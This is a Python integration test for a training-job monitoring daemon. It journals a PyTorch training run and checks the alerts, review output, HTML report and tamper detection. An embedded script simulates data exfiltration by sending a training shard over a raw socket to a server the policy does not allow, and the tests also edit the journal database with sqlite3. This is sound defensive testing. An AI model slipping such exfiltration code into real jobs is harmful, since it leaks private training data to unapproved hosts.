"""The forensic journal, end to end: a real training job (scenario B1: a
PyTorch DataLoader with worker processes reads every approved shard, trains,
writes checkpoints) that then does A2 (sends a shard over a plain socket to a
server the policy does not allow) is journaled; `review` shows the tree, the
shards read, the destination and bytes, and the alerts; `export` round-trips
against the daemon's own output; the HTML report renders in headless
Chromium; editing, deleting or inserting one record with sqlite3 is named by
`verify`."""
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from fixture import DataTree  # noqa: E402
from harness import Daemon  # noqa: E402
from test_network import SinkServer  # noqa: E402

PY = "/usr/bin/python3"
ARTIFACTS = os.environ.get("FTS_TEST_ARTIFACTS",
                           os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../build/test-artifacts"))

TRAIN = r"""
import json, os, socket, sys
import torch
from torch.utils.data import DataLoader, Dataset

data_dir, ckpt_dir, host, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
shards = sorted(os.path.join(data_dir, f) for f in os.listdir(data_dir) if f.endswith(".jsonl"))

class Shards(Dataset):
    def __len__(self):
        return len(shards)
    def __getitem__(self, i):
        with open(shards[i]) as f:       # read in a worker process
            rows = [json.loads(l)["text"] for l in f]
        return torch.tensor([float(len(r)) for r in rows[:16]])

torch.manual_seed(0)
model = torch.nn.Linear(16, 1)
opt = torch.optim.SGD(model.parameters(), lr=0.01)
loader = DataLoader(Shards(), batch_size=1, num_workers=2)
step = 0
for epoch in range(2):
    for x in loader:
        loss = model(x).pow(2).mean()
        opt.zero_grad(); loss.backward(); opt.step()
        step += 1
    d = os.path.join(ckpt_dir, f"checkpoint-{step}")
    os.makedirs(d, exist_ok=True)
    torch.save(model.state_dict(), os.path.join(d, "model.pt"))
# A2: the shard goes out over a plain socket to a server the policy does not allow.
payload = open(shards[0], "rb").read()
c = socket.create_connection((host, port))
c.sendall(payload * 20)
sent = len(payload) * 20
c.close()
print(json.dumps({"steps": step, "sent": sent}))
"""


def sqlite(db, sql):
    subprocess.run(["sqlite3", db, sql], check=True, capture_output=True, text=True, timeout=30)


def sqlite_value(db, sql):
    return subprocess.run(["sqlite3", db, sql], check=True, capture_output=True, text=True, timeout=30).stdout.strip()


class JournalTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = DataTree()
        cls.denied = SinkServer(socket.AF_INET, "127.0.0.1")
        cls.allowed = SinkServer(socket.AF_INET, "127.0.0.1")
        pol = cls.t.policy(name="ft", extra=f'network:\n  egress: ["127.0.0.1/32:{cls.allowed.port}"]\n')
        cls.d = Daemon({"ft.yaml": pol}, extra_config="journal: { seal_interval_seconds: 1 }\n").start()
        # The program inline (-c): a script file outside the approved data would
        # itself be an unapproved read.
        r = cls.d.cli("run", "--policy", "ft", "--name", "b1-a2", "--", PY, "-c", TRAIN, cls.t.approved, cls.t.ckpt,
                      "127.0.0.1", str(cls.denied.port), timeout=240)
        if r.returncode != 0:
            cls.d.cleanup()
            raise AssertionError(f"training job failed ({r.returncode}):\n{r.stdout}\n{r.stderr}")
        cls.job = r.stderr.split("job ")[1].split()[0]
        cls.result = json.loads(r.stdout.strip().splitlines()[-1])
        # The job's end and its alerts are in the outputs, then in the journal.
        cls.d.wait_for(lambda evs: [e for e in evs if e.get("kind") == "job_end" and e["job"]["id"] == cls.job],
                       timeout=30, what="job_end")
        cls.d.wait_for(lambda evs: {"egress-not-allowed", "exfil-chain"} <= {e["rule"] for e in evs if "rule" in e
                                                                             and e.get("job", {}).get("id") == cls.job},
                       timeout=30, what="A2 alerts")

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()
        cls.denied.close()
        cls.allowed.close()
        cls.t.cleanup()

    def cli(self, *args, ok=True):
        r = self.d.cli(*args, timeout=60)
        if ok and r.returncode != 0:
            self.fail(f"ftsentinel {' '.join(args)}: {r.returncode}\n{r.stdout}\n{r.stderr}")
        return r

    def review(self):
        # The live daemon's journal, found through the control socket; the
        # records arrive within a writer batch: poll until the alerts are in.
        import time
        deadline = time.time() + 20
        while True:
            rv = json.loads(self.cli("review", self.job, "--json").stdout)
            rules = {a["rule"] for a in rv.get("alerts", [])}
            if {"egress-not-allowed", "exfil-chain"} <= rules and rv["run"]["job"].get("end_time"):
                return rv
            if time.time() > deadline:
                self.fail(f"journal never had the job's end and alerts: {json.dumps(rv)[:3000]}")
            time.sleep(0.2)

    def test_runs_lists_the_job_with_its_alerts(self):
        self.review()
        runs = json.loads(self.cli("runs", "--json").stdout)
        self.assertEqual(runs["journal"], os.path.join(self.d.tmp, "state", "journal.db"))
        mine = [r for r in runs["runs"] if r["job"]["id"] == self.job]
        self.assertEqual(len(mine), 1, runs)
        r = mine[0]
        self.assertEqual((r["job"]["policy"], r["job"]["name"]), ("ft", "b1-a2"))
        self.assertEqual(r.get("exit_code", 0), 0)
        self.assertGreaterEqual(int(r["alerts"]), 2)
        table = self.cli("runs").stdout
        self.assertIn(self.job, table)
        self.assertIn("b1-a2", table)

    def test_review_shows_tree_data_destination_and_alerts(self):
        rv = self.review()
        # The tree: python3 train.py at the root, the DataLoader's workers under it.
        roots = rv["processes"]
        self.assertEqual(len(roots), 1, json.dumps(roots)[:4000])
        root = roots[0]
        self.assertEqual(root["exe"], os.path.realpath(PY))
        self.assertEqual(root["args"][1:2] + root["args"][3:5], ["-c", self.t.approved, self.t.ckpt])

        def walk(p):
            yield p
            for c in p.get("children", []):
                yield from walk(c)
        workers = [c for c in root.get("children", [])]
        self.assertGreaterEqual(len(workers), 2, json.dumps(root)[:2000])
        everyone = list(walk(root))
        # The shards were read by the workers, each named with its canonical path.
        read = {f["path"]: f for f in rv["read"]}
        for shard in self.t.shards:
            self.assertIn(shard, read, sorted(read))
            self.assertIn("training", read[shard]["classes"])
            readers = set(read[shard]["pids"])
            self.assertTrue(readers & {w["pid"] for w in workers}, (shard, readers))
            # file_hash events (the rule engine's hasher): the digest and size of the content read.
            with open(shard, "rb") as f:
                content = f.read()
            self.assertEqual(read[shard].get("sha256"), hashlib.sha256(content).hexdigest(), read[shard])
            self.assertEqual(int(read[shard]["size"]), len(content))
        by_class = {c["class"]: c["files"] for c in rv["read_by_class"]}
        self.assertGreaterEqual(by_class.get("training", 0), 3)
        written = {f["path"] for f in rv["written"]}
        self.assertTrue(any(p.startswith(self.t.ckpt + "/checkpoint-") and p.endswith("model.pt") for p in written),
                        written)
        # The destination, with the bytes the job sent there.
        peers = [p for p in rv["peers"] if p["daddr"] == "127.0.0.1" and p["dport"] == self.denied.port]
        self.assertEqual(len(peers), 1, rv["peers"])
        self.assertEqual(peers[0]["verdict"], "not_allowed")
        self.assertLessEqual(abs(int(peers[0]["bytes"]) - self.result["sent"]), self.result["sent"] * 0.01, peers[0])
        self.assertIn(root["pid"], peers[0]["pids"])
        # The alerts, in time order, naming the shard and the destination.
        rules = [a["rule"] for a in rv["alerts"]]
        self.assertEqual(sorted(set(rules)), ["egress-not-allowed", "exfil-chain"], rules)
        times = [a["time"] for a in rv["alerts"]]
        self.assertEqual(times, sorted(times))
        chain = [a for a in rv["alerts"] if a["rule"] == "exfil-chain"][0]
        # (the rule names a protected file the tree read; which shard depends on the workers' order)
        self.assertTrue(any(s in chain["message"] for s in self.t.shards), chain["message"])
        # The human table says the same.
        text = self.cli("review", self.job).stdout
        for needle in (self.t.approved, self.t.shards[0], f"127.0.0.1:{self.denied.port}", "exfil-chain",
                       f"{peers[0]['bytes']} bytes sent"):
            self.assertIn(needle, text)
        self.assertTrue(all(p["exe"] for p in everyone))

    def test_timeline_filters(self):
        self.review()
        tl = json.loads(self.cli("review", self.job, "--timeline", "--json").stdout)["entries"]
        kinds = [e["kind"] for e in tl]
        self.assertEqual(kinds[0], "job_start")
        self.assertIn("alert", kinds)
        seqs = [int(e["seq"]) for e in tl]
        self.assertEqual(seqs, sorted(seqs))
        net = json.loads(self.cli("review", self.job, "--timeline", "--kind", "network", "--json").stdout)["entries"]
        self.assertTrue(net)
        self.assertTrue(all(e["kind"] == "network" for e in net))
        pid = [e for e in tl if e["kind"] == "alert"][0]["alert"]["process"]["pid"]
        mine = json.loads(self.cli("review", self.job, "--timeline", "--pid", str(pid), "--json").stdout)["entries"]
        self.assertTrue(mine)
        self.assertTrue(all((e.get("event") or e.get("alert"))["process"]["pid"] == pid for e in mine))
        first_alert = [e["time"] for e in tl if e["kind"] == "alert"][0]
        late = json.loads(self.cli("review", self.job, "--timeline", "--since", first_alert, "--json").stdout)
        self.assertTrue(all(e["time"] >= first_alert[:23] for e in late["entries"]))
        self.assertLess(len(late["entries"]), len(tl))
        bad = self.cli("review", self.job, "--timeline", "--since", "yesterday", ok=False)
        self.assertEqual(bad.returncode, 1)
        self.assertIn("--since", bad.stderr)

    def test_export_round_trips_against_the_daemons_output(self):
        self.review()
        out = self.cli("export", self.job, "--format", "jsonl").stdout.splitlines()
        exported = [json.loads(l) for l in out]
        runs = json.loads(self.cli("runs", "--json").stdout)["runs"]
        records = int([r for r in runs if r["job"]["id"] == self.job][0]["records"])
        self.assertEqual(len(exported), records)
        # Every event and alert of the job in the daemon's own JSON output is
        # in the export, field for field.
        mine = [e for e in self.d.events() if e.get("job", {}).get("id") == self.job]
        by_key = {("rule" in e, e["id"]): e for e in exported}
        for e in mine:
            self.assertEqual(by_key.get(("rule" in e, e["id"])), e)
        ocsf = [json.loads(l) for l in self.cli("export", self.job, "--format", "ocsf").stdout.splitlines()]
        self.assertEqual(len(ocsf), records)
        self.assertEqual(sum(1 for x in ocsf if x.get("class_uid") == 2004), sum(1 for e in exported if "rule" in e))

    def test_unknown_job_is_a_clear_error(self):
        r = self.cli("review", "ffffffffffffffff", ok=False)
        self.assertEqual(r.returncode, 1)
        self.assertIn("no job 'ffffffffffffffff'", r.stderr)

    def test_html_report_renders_in_chromium(self):
        self.review()
        chromium = shutil.which("chromium")
        if not chromium:
            self.fail("chromium is not installed (scripts/dev.sh installs it)")
        os.makedirs(ARTIFACTS, exist_ok=True)
        html = os.path.join(ARTIFACTS, "journal-report.html")
        self.cli("report", self.job, "-o", html)
        with open(html) as f:
            page = f.read()
        self.assertNotIn("https://", page)
        profile = tempfile.mkdtemp(prefix="fts-kt-chromium-")
        try:
            base = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                    "--disable-background-networking", f"--user-data-dir={profile}", "--window-size=1400,2400",
                    "--enable-logging=stderr", "--v=0"]
            dom = subprocess.run(base + ["--dump-dom", "file://" + html], capture_output=True, text=True, timeout=120)
            self.assertEqual(dom.returncode, 0, dom.stderr[-3000:])
            d = dom.stdout
            self.assertIn('data-rendered="1"', d, "the page's script did not run to its end:\n" + dom.stderr[-3000:])
            self.assertIn('class="proc"', d)                      # the tree, built by JS
            self.assertIn("DataLoader", d)                        # the root's exec args, in the tree
            self.assertIn('class="alert-mark"', d)                # alerts marked on the timeline
            self.assertIn("exfil-chain", d)
            self.assertIn(self.t.shards[0], d)
            self.assertIn(f"127.0.0.1:{self.denied.port}", d)
            console_errors = [l for l in dom.stderr.splitlines()
                              if "CONSOLE" in l and ("Uncaught" in l or "Error" in l)]
            self.assertEqual(console_errors, [])
            png = os.path.join(ARTIFACTS, "journal-report.png")
            if os.path.exists(png):
                os.unlink(png)
            shot = subprocess.run(base + [f"--screenshot={png}", "file://" + html], capture_output=True, text=True,
                                  timeout=120)
            self.assertEqual(shot.returncode, 0, shot.stderr[-3000:])
            self.assertGreater(os.path.getsize(png), 10000)
            print(f"report screenshot: {os.path.abspath(png)}", file=sys.stderr)
        finally:
            shutil.rmtree(profile, ignore_errors=True)

    def test_zz_verify_names_edits_deletions_and_insertions_offline(self):
        self.review()
        live = self.cli("verify", "--json", ok=False)
        self.assertEqual(live.returncode, 0, live.stdout + live.stderr)
        self.assertTrue(json.loads(live.stdout)["intact"])
        # Offline, on a copy: stop the daemon (drains, seals, checkpoints), copy the file.
        self.d.stop()
        state = os.path.join(self.d.tmp, "state")
        work = tempfile.mkdtemp(prefix="fts-kt-journal-")
        try:
            orig = os.path.join(work, "orig.db")
            shutil.copy(os.path.join(state, "journal.db"), orig)
            key = os.path.join(state, "journal.key")
            self.assertEqual(os.stat(key).st_mode & 0o777, 0o600)

            def verify(db):
                r = subprocess.run([harness.CLI, "verify", "--journal", db, "--key", key, "--json"],
                                   capture_output=True, text=True, timeout=60)
                self.assertIn(r.returncode, (0, 1), r.stderr)
                rep = json.loads(r.stdout)
                return r.returncode, rep, subprocess.run([harness.CLI, "verify", "--journal", db, "--key", key],
                                                         capture_output=True, text=True, timeout=60).stdout

            rc, rep, _ = verify(orig)
            self.assertEqual(rc, 0, rep)
            self.assertTrue(rep["intact"])
            self.assertTrue(rep["macs_checked"])
            self.assertEqual(int(rep.get("unsealed", 0)), 0)
            # Offline review of the copy works too.
            off = subprocess.run([harness.CLI, "review", self.job, "--journal", orig], capture_output=True, text=True,
                                 timeout=60)
            self.assertEqual(off.returncode, 0, off.stderr)
            self.assertIn("exfil-chain", off.stdout)

            mid = int(sqlite_value(orig, f"SELECT seq FROM records WHERE job_id='{self.job}' AND kind='file' "
                                         "ORDER BY seq LIMIT 1 OFFSET 1"))
            idx = int(sqlite_value(orig, f"SELECT idx FROM records WHERE seq={mid}"))

            edited = os.path.join(work, "edited.db")
            shutil.copy(orig, edited)
            sqlite(edited, f"UPDATE records SET pid = pid + 1 WHERE seq = {mid}")
            rc, rep, text = verify(edited)
            self.assertEqual(rc, 1)
            self.assertEqual((rep["problems"][0]["what"], int(rep["problems"][0]["seq"])), ("changed", mid), rep)
            self.assertIn(f"record seq {mid} ", text)
            self.assertIn("TAMPERED", text)

            deleted = os.path.join(work, "deleted.db")
            shutil.copy(orig, deleted)
            sqlite(deleted, f"DELETE FROM records WHERE seq = {mid}")
            rc, rep, text = verify(deleted)
            self.assertEqual(rc, 1)
            p = rep["problems"][0]
            self.assertEqual((p["what"], p["job"], int(p["index"])), ("deleted", self.job, idx), rep)
            self.assertIn(f"#{idx}", text)

            inserted = os.path.join(work, "inserted.db")
            shutil.copy(orig, inserted)
            sqlite(inserted, "INSERT INTO records(job_id, idx, type, kind, time_ms, pid, body, hash) "
                             f"SELECT job_id, idx, type, kind, time_ms, pid, body, hash FROM records WHERE seq = {mid}")
            new_seq = int(sqlite_value(inserted, "SELECT MAX(seq) FROM records"))
            rc, rep, text = verify(inserted)
            self.assertEqual(rc, 1)
            self.assertEqual((rep["problems"][0]["what"], int(rep["problems"][0]["seq"])), ("inserted", new_seq), rep)
            self.assertIn(f"record seq {new_seq} ", text)

            # A journal from a newer schema, and a file that is not one.
            newer = os.path.join(work, "newer.db")
            shutil.copy(orig, newer)
            sqlite(newer, "UPDATE meta SET value='99' WHERE key='schema_version'")
            r = subprocess.run([harness.CLI, "runs", "--journal", newer], capture_output=True, text=True, timeout=60)
            self.assertEqual(r.returncode, 1)
            self.assertIn("newer ftsentinel", r.stderr)
            junk = os.path.join(work, "junk.db")
            with open(junk, "wb") as f:
                f.write(b"not a database" * 300)
            r = subprocess.run([harness.CLI, "runs", "--journal", junk], capture_output=True, text=True, timeout=60)
            self.assertEqual(r.returncode, 1)
            self.assertIn("corrupt or not a journal", r.stderr)
        finally:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    harness.main()
